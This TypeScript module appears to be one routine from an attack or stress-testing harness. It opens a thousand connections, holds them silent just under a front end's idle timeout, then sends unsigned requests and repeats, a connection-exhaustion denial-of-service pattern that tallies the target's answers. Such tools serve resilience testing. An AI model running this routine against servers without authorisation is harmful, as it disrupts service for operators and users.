import { setTimeout as sleep } from 'node:timers/promises';
import { type AttackTally, addressOf, type Victim } from './attack.ts';
import { Connection } from './connection.ts';
import { unsigned } from './requests.ts';

const count = 1_000;

/** Below the time after which a front takes a silent connection for dead. */
const heldMs = 5_000;

/** A thousand connections at once, held open in silence; then each sends, and all come again. */
export async function connections(victim: Victim, tally: AttackTally, stopped: AbortSignal): Promise<void> {
  const request = unsigned(victim, 1_000);
  while (!stopped.aborted) {
    const all = Array.from({ length: count }, () => new Connection(addressOf(victim)));
    await Promise.all(all.map((connection) => connection.open()));
    await sleep(heldMs, undefined, { signal: stopped }).catch(() => {});
    await Promise.all(
      all.map(async (connection) => {
        tally.send();
        tally.answer(await connection.send(request));
        connection.close();
      }),
    );
  }
}
